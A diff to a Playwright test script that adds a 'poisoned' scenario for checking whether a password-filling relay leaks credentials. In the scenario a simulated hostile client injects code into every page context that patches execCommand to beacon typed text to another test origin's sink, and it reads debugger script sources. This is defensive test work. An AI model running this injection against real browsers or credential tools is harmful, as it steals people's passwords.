@@ -5,7 +5,7 @@
 // <out>/report.json for the Go test, which checks it and searches it (and
 // every frame the client received) for the person's credentials. Usage:
 //   node secrets-playwright.mjs <scenario> <endpoint> <main origin> <other origin> <out dir>
-// scenario: headers | recordings | routes | login | refused
+// scenario: headers | recordings | routes | login | refused | poisoned
 import { writeFileSync } from 'node:fs';
 import { chromium } from 'playwright-core';
 
@@ -194,6 +194,45 @@ switch (scenario) {
     await attempt('partial', () => page.fill('#password', 'x{{secret:site}}', { timeout: 2000 }));
     report.partialValue = await page.inputValue('#password');
     step(`refused: ${JSON.stringify(report)}`);
+    break;
+  }
+  case 'poisoned': {
+    // A client that fills once, then from a raw session of its own
+    // poisons every world it can reach in the page so that typing there
+    // sends the text to the other origin, watches the debugger's scripts
+    // and reads their sources, and fills again.
+    const cdp = await context.newCDPSession(page);
+    const scripts = [];
+    cdp.on('Debugger.scriptParsed', (e) => scripts.push(e.scriptId));
+    await cdp.send('Runtime.enable');
+    await cdp.send('Debugger.enable');
+    await page.goto(`${main}/secure/login.html`);
+    await page.fill('#password', '{{secret:site}}');
+    const poison = `(() => {
+      const exec = Document.prototype.execCommand;
+      Document.prototype.execCommand = function (c, u, v) { navigator.sendBeacon(${JSON.stringify(other + '/secure/sink')}, String(v)); return exec.call(this, c, u, v); };
+      return 'poisoned';
+    })()`;
+    let ran = 0;
+    const tryIn = (p) => p.then((r) => { if (r.result && r.result.value === 'poisoned') ran++; }, () => {});
+    for (let id = 1; id <= 60; id++) await tryIn(cdp.send('Runtime.evaluate', { expression: poison, contextId: id, returnByValue: true }));
+    const { frameTree } = await cdp.send('Page.getFrameTree');
+    for (const name of ['cdprelay', 'cdprelay-']) {
+      await cdp.send('Page.createIsolatedWorld', { frameId: frameTree.frame.id, worldName: name })
+        .then(({ executionContextId }) => tryIn(cdp.send('Runtime.evaluate', { expression: poison, contextId: executionContextId, returnByValue: true })), () => {});
+      await cdp.send('Page.addScriptToEvaluateOnNewDocument', { source: poison, worldName: name, runImmediately: true }).catch(() => {});
+    }
+    report.poisoned = ran;
+    await page.fill('#password', '');
+    await page.fill('#password', '{{secret:site}}');
+    report.value = await page.inputValue('#password');
+    report.sources = [];
+    for (const scriptId of scripts) {
+      report.sources.push(await cdp.send('Debugger.getScriptSource', { scriptId }).then((r) => r.scriptSource, (e) => `error: ${e.message}`));
+    }
+    await cdp.send('Debugger.disable');
+    await cdp.detach();
+    step(`poisoned ${ran} worlds, filled: ${report.value}; read ${scripts.length} sources`);
     break;
   }
   default:
